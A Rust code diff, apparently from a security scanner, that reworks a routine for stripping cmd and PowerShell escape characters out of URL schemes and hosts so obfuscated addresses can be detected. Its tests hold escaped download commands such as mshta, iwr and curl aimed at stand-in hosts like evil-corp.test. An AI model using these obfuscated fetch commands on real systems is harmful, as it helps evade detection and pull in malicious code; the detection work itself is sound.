@@ -5,13 +5,11 @@ use std::borrow::Cow;
 /// What a shell drops between two letters: the escapes of cmd and PowerShell, and an empty pair of quotes.
 const DROPPED: [&str; 4] = ["^", "`", "\"\"", "''"];
 
-const SCHEMES: [&str; 3] = ["http", "https", "ftp"];
+/// How an address begins that a shell is given.
+const SCHEMES: [&str; 3] = ["http://", "https://", "ftp://"];
 
-/// Letters of a scheme, and signs between them.
-const LONGEST: usize = 16;
-
-/// Letters of a host, and signs between them.
-const LONGEST_HOST: usize = 512;
+/// Bytes of a word in which an address is looked for, and of its host.
+const LONGEST: usize = 512;
 
 /// The text with the addresses whose scheme or host hold such signs written out. Elsewhere they stay: between values they part them.
 pub(super) fn written_out(text: &str) -> Cow<'_, str> {
@@ -34,42 +32,54 @@ pub(super) fn written_out(text: &str) -> Cow<'_, str> {
 
 /// The word without them, where they stand in the scheme or the host of an address in it.
 fn address(word: &str) -> Option<String> {
-    let at = word.find("://")?;
-    let (before, behind) = (word.get(..at)?, word.get(at..)?);
-    let scheme = scheme(before)?;
-    let path = behind.get(3..)?.find(['/', '?', '#']).map_or(behind.len(), |path| path + 3);
-    if path > LONGEST_HOST {
-        return None;
-    }
-    let hidden = [before.get(scheme..)?, behind.get(..path)?];
-    let shown = hidden.map(without).concat();
-    let whole = [before.get(..scheme)?, &shown, behind.get(path..)?].concat();
-    (whole.len() < word.len()).then_some(whole)
-}
-
-/// Where the scheme begins that the text ends with, such signs in it or not.
-fn scheme(text: &str) -> Option<usize> {
-    let ends = text.char_indices().rev().take(LONGEST);
-    ends.map(|(at, _)| at).find(|at| {
-        let word = text.get(*at..).map(without).unwrap_or_default();
-        SCHEMES.iter().any(|scheme| word.eq_ignore_ascii_case(scheme))
+    word.char_indices().take(LONGEST).filter(|(_, first)| matches!(first, 'h' | 'H' | 'f' | 'F')).find_map(|(at, _)| {
+        let before = word.get(..at)?;
+        if before.ends_with(char::is_alphanumeric) {
+            return None;
+        }
+        let (scheme, host) = SCHEMES.iter().find_map(|scheme| Some((scheme, after(word, at, scheme)?)))?;
+        let behind = word.get(host..)?;
+        let path = behind.find(['/', '?', '#']).unwrap_or(behind.len());
+        let shown = without(behind.get(..path).filter(|host| host.len() <= LONGEST)?);
+        let whole = [before, scheme, &shown, behind.get(path..)?].concat();
+        (whole.len() < word.len()).then_some(whole)
     })
 }
 
-/// The text without such signs between two letters.
-fn without(text: &str) -> String {
-    let (mut clean, mut rest) = (String::new(), text);
+/// Where a scheme ends that begins at `at`, such signs in it or not.
+fn after(word: &str, at: usize, scheme: &str) -> Option<usize> {
+    let mut rest = word.get(at..)?;
+    for (place, letter) in scheme.char_indices() {
+        while let Some(behind) = DROPPED.iter().find_map(|sign| rest.strip_prefix(sign)).filter(|_| place > 0) {
+            rest = behind;
+        }
+        rest = rest.strip_prefix(|first: char| first.eq_ignore_ascii_case(&letter))?;
+    }
+    Some(word.len() - rest.len())
+}
+
+/// The host without such signs between two of its letters.
+fn without(host: &str) -> String {
+    let (mut clean, mut rest) = (String::new(), host);
     while let Some((at, sign)) = next(rest) {
         let (before, behind) = (rest.get(..at).unwrap_or_default(), rest.get(at + sign.len()..).unwrap_or_default());
         clean.push_str(before);
-        let is_between = clean.ends_with(|letter: char| letter.is_ascii_alphabetic())
-            && behind.starts_with(|letter: char| letter.is_ascii_alphabetic());
-        if !is_between {
+        if !is_between(clean.chars().next_back(), behind) {
             clean.push_str(sign);
         }
         rest = behind;
     }
     clean + rest
+}
+
+/// Digits on both sides may be the end of one value and the beginning of another, as may what begins an address.
+fn is_between(before: Option<char>, behind: &str) -> bool {
+    let of_host = |sign: char| sign.is_ascii_alphanumeric() || matches!(sign, '.' | '-');
+    let (Some(before), Some(first)) = (before, behind.chars().next()) else { return false };
+    if ["http", "ftp:"].iter().any(|word| behind.get(..4).is_some_and(|start| start.eq_ignore_ascii_case(word))) {
+        return false;
+    }
+    of_host(before) && of_host(first) && !(before.is_ascii_digit() && first.is_ascii_digit())
 }
 
 fn next(text: &str) -> Option<(usize, &'static str)> {
@@ -85,6 +95,12 @@ mod tests {
         for (text, read) in [
             ("mshta ht^tp://b16.e^vil-corp.test/a now", "mshta http://b16.evil-corp.test/a now"),
             ("iwr h`ttp://b19.e`vil-corp.test", "iwr http://b19.evil-corp.test"),
+            ("curl http://ev1^l3-corp.test/q", "curl http://ev1l3-corp.test/q"),
+            ("h`ttp://my`-bad`-corp.test/x", "http://my-bad-corp.test/x"),
+            ("ht^tp^:^/^/e^vil-corp.test/a", "http://evil-corp.test/a"),
+            ("HT^TPS://evil^.corp-x.test/z", "https://evil.corp-x.test/z"),
+            ("http://198.51.100.1^198.51.100.2", "http://198.51.100.1^198.51.100.2"),
+            ("http://a.test^http://b.test", "http://a.test^http://b.test"),
             ("curl h\"\"ttp://ev\"\"il.test/a", "curl http://evil.test/a"),
             ("a.test^b.test^http://c.test/x", "a.test^b.test^http://c.test/x"),
             ("http://a.test/x^y `http://b.test/`", "http://a.test/x^y `http://b.test/`"),
